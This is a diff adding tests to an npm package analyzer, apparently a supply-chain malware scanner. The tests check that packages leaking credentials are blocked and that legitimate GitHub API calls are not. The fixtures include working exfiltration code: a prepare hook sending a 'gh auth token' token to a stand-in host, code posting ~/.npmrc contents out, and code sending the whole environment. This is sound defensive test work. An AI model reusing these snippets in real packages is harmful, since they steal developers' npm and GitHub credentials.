@@ -110,4 +110,76 @@ test('malicious twins stay BLOCKED: a fixed foreign host, a webhook, a paste sit
   }
 });
 
+// Credentials through the file's own functions (docs/package-analysis.md, "npm22"): a call of a local
+// function hands its parameters the credentials (and the whole environment, wallet stores, cloud
+// credentials) it is called with, with their names; a local function's return carries them too. Real
+// case: SET7's `worm-republish/gh-auth-token-prepare-tsc` (a token from `gh auth token`, sent by
+// `call('PUT', p, token, body)` from a file only the prepare hook runs).
+const helperSend = (o: { token?: string; host?: string; body?: string } = {}) => `"use strict";
+const child_process_1 = require("child_process");
+const API = process.env.API_URL || "${o.host ?? 'https://api.repo-sync.example'}";
+function token() {
+    if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
+    try { return (0, child_process_1.execSync)("gh auth token").toString().trim(); } catch (_a) { return ""; }
+}
+async function call(method, p, tok, body) {
+    const r = await fetch(API + p, { method, headers: { authorization: "token " + tok }, body: body ? JSON.stringify(body) : undefined });
+    return r.ok ? r.json() : null;
+}
+async function main() {
+    const t = ${o.token ?? 'token()'};
+    if (!t) return;
+    await call("PUT", "/repos/x/contents/r.b64", t, ${o.body ?? '{ message: "add" }'});
+}
+main().catch(() => {});
+`;
+const prepareOnly = (file: string) =>
+  analyzeArchive(
+    npmTgz({ 'package.json': JSON.stringify({ name: 'changelog-kit', version: '0.9.0', main: 'index.js', scripts: { prepare: 'node dist/prepare.js' } }), 'index.js': 'module.exports = {};\n', 'dist/prepare.js': file }),
+    { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] },
+  );
+
+test('a credential helper\'s token handed to the file\'s own sender from a prepare-only file (SET7\'s case): CRITICAL, BLOCKED', async () => {
+  const a = await prepareOnly(helperSend());
+  assert.ok(sends(a).includes('CRITICAL'), a.findings.map((f) => f.ruleId).join(' '));
+  assert.is(level(a), 'BLOCKED');
+});
+
+test('variants: an npm token read from .npmrc through two helpers (any role); a GitHub token from the environment at install, through an arrow function, to a fixed foreign host; the whole environment as the body', async () => {
+  const npmrc = await prepareOnly(`const fs = require('fs');
+const os = require('os');
+const readToken = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+const post = (url, data) => fetch(url, { method: 'POST', body: data });
+function upload(what) { return post('https://collect.pkg-stats.example/u', what); }
+upload(readToken());
+`);
+  assert.ok(sends(npmrc).includes('CRITICAL'), `npmrc: ${npmrc.findings.map((f) => f.ruleId).join(' ')}`);
+  const install = await pkg(`const send = async (url, key) => fetch(url, { headers: { 'x-key': key } });
+exports.run = async () => { await send('https://telemetry.other-vendor.example/v1', process.env.GITHUB_TOKEN); };
+`);
+  assert.ok(sends(install).includes('CRITICAL'), `install: ${install.findings.map((f) => f.ruleId).join(' ')}`);
+  const env = await prepareOnly(helperSend({ token: '"x"', body: '{ env: process.env }' }));
+  assert.is(level(env), 'BLOCKED', `env: ${env.findings.map((f) => f.ruleId).join(' ')}`);
+});
+
+test('honest twins: the same helper sending the token to GitHub\'s API; a program-prefixed GitHub token name (NETLIFY_TEST_GITHUB_TOKEN) to GitHub; a token handed to a helper whose base URL the user sets, at run time', async () => {
+  const gh = await prepareOnly(helperSend({ host: 'https://api.github.com' }));
+  assert.not.ok(sends(gh).some((s) => s === 'CRITICAL' || s === 'HIGH'), `gh: ${sends(gh).join(' ')}`);
+  assert.not.ok(level(gh) === 'BLOCKED' || level(gh) === 'CAUTION', level(gh));
+  const prefixed = await pkg(`const headers = () => { const h = { accept: 'application/vnd.github+json' }; if (process.env.NETLIFY_TEST_GITHUB_TOKEN) h.authorization = 'token ' + process.env.NETLIFY_TEST_GITHUB_TOKEN; return h; };
+const latest = async (repo) => (await fetch('https://api.github.com/repos/' + repo + '/releases/latest', { headers: headers() })).json();
+exports.run = async () => latest('model-org/model-runner');
+`);
+  assert.not.ok(sends(prefixed).some((s) => s === 'CRITICAL' || s === 'HIGH'), `prefixed: ${sends(prefixed).join(' ')}`);
+  const userBase = await analyzeArchive(
+    npmTgz({
+      'package.json': JSON.stringify({ name: 'api-kit', version: '1.0.0', main: 'index.js' }),
+      'index.js': 'function request(base, path, key) { return fetch(base + path, { headers: { authorization: "Bearer " + key } }); }\nexports.list = (opts) => request(opts.baseUrl, "/items", process.env.API_KIT_TOKEN);\n',
+    }),
+    { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] },
+  );
+  assert.not.ok(sends(userBase).some((s) => s === 'CRITICAL' || s === 'HIGH'), `userBase: ${sends(userBase).join(' ')}`);
+  assert.not.ok(level(userBase) === 'BLOCKED' || level(userBase) === 'CAUTION', level(userBase));
+});
+
 test.run();
